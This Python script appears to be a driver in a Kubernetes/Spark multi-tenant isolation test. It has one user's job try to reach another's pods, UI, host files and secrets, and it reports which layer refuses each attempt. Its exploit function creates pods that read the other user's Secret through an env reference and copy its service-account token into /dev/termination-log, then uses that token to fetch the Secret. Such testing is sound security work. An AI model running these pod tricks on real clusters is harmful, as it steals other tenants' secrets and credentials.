"""Alice's driver: tries everything against bob, who has a job in the same namespace, and reports each attempt.

Arguments: a scene (JSON, see attack.rs), and what to try: everything, wide.
"""
import sys
import time

import pods
import reach
import wide
from api import Scene, refused_by, report


def main():
    scene = Scene(sys.argv[1])
    scene.settle()
    # In a namespace without the policy nothing is really done: it is seen that it would be.
    dry = scene.mode == "hole"
    if sys.argv[2] == "wide":
        tried = everything_wide(scene, dry)
    else:
        tried = everything(scene, dry)
    print(f"DONE {tried}", flush=True)


def everything(scene, dry):
    tried = 0
    scene.own_pod = made(scene)["metadata"]["name"]
    for table in (reach.attempts(scene), pods.open_reads(scene), pods.attempts(scene)):
        for attempt in table:
            attempt.make(scene.cluster, dry)
            tried += 1
    tried += secrets_in_pods(scene)
    tried += interface(scene)
    tried += host(scene)
    if dry:
        tried += exploit(scene)
    return tried


def everything_wide(scene, dry):
    for _ in range(300):
        if scene.cluster.may("patch", "pods") and scene.cluster.may("create", "pods", "exec"):
            break
        time.sleep(0.2)
    name = made(scene)["metadata"]["name"]
    for _ in range(300):
        own_pod = scene.cluster.ask("GET", f"{scene.pods}/{name}").body
        # A replace must name everything, the node that it was given too.
        if "nodeName" in own_pod["spec"]:
            break
        time.sleep(0.2)
    tried = 0
    for attempt in wide.attempts(scene, own_pod):
        attempt.make(scene.cluster, dry)
        tried += 1
    return tried


def made(scene):
    """A pod of the job's own, which is allowed."""
    answer = scene.cluster.ask("POST", scene.pods, scene.pod())
    if answer.status != 201:
        raise SystemExit(f"a pod as Spark makes them: {answer.status} {answer.message}")
    return answer.body


def secrets_in_pods(scene):
    """Bob's RPC secret is not in what alice may read of his pods: there is a reference to a Secret only."""
    answer = scene.cluster.ask("GET", f"{scene.pods}/{scene.bob['pod']}")
    by = "error"
    for container in answer.body.get("spec", {}).get("containers", []):
        for variable in container.get("env", []):
            if variable["name"] == "_SPARK_AUTH_SECRET" and "value" not in variable:
                by = "host"
    report("bob's RPC secret in the list of pods", "host", "GET " + scene.pods, answer.status, by, "a reference, no value")
    return 1


def interface(scene):
    """Spark serves a driver's user interface to whoever reaches the host: by default there is none."""
    url = scene.bob["ui"]
    report("bob's jobs in his user interface", "host", f"GET {url}", 0, "nobody" if url else "host", url or "there is none")
    return 1


def host(scene):
    """The files of bob's job on the driver's host."""
    tried = 0
    for name, path in scene.files.items():
        try:
            with open(path, "rb") as file:
                file.read(1)
            by, message = "nobody", ""
        except OSError as error:
            by, message = "host" if isinstance(error, PermissionError) else "error", str(error)
        report(name, "host", f"open {path}", 0, by, message)
        tried += 1
    return tried


def exploit(scene):
    """Not only said: bob's secret and the token of bob's account are really read through a pod."""
    bob = scene.bob
    key = {"secretKeyRef": {"name": bob["secret"], "key": "key"}}
    read = {
        "/spec/containers/0/env/-": {"name": "S", "valueFrom": key},
        "/spec/containers/0/command": ["sh", "-c", "printf %s \"$S\" > /dev/termination-log"],
    }
    said = termination(scene, scene.pod(read))
    stolen(scene, "exploit: bob's secret through a variable", said, said == bob["secret_value"])
    take = {
        "/spec/serviceAccountName": bob["account"],
        "/spec/automountServiceAccountToken": True,
        "/spec/containers/0/command": ["sh", "-c", "cut -c1-3000 /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/termination-log"],
    }
    token = termination(scene, scene.pod(take)).strip()
    answer = scene.cluster.ask("GET", f"{scene.core}/secrets/{bob['secret']}", token=token or "none")
    stolen(scene, "exploit: a token of bob's account", f"{answer.status}", answer.status == 200)
    return 2


def stolen(scene, name, said, worked):
    report(name, "policy", "a pod that runs", 0, "nobody" if worked else "error", said if not worked else "read")


def termination(scene, pod):
    """What a pod says at its end, where whoever may get pods can read it."""
    answer = scene.cluster.ask("POST", scene.pods, pod)
    if refused_by(answer.status, answer.message) != "nobody":
        return answer.message
    for _ in range(300):
        answer = scene.cluster.ask("GET", f"{scene.pods}/{pod['metadata']['name']}")
        for status in answer.body.get("status", {}).get("containerStatuses", []):
            ended = status["state"].get("terminated")
            if ended:
                return ended.get("message", "")
        time.sleep(0.2)
    return "the pod did not end"


main()
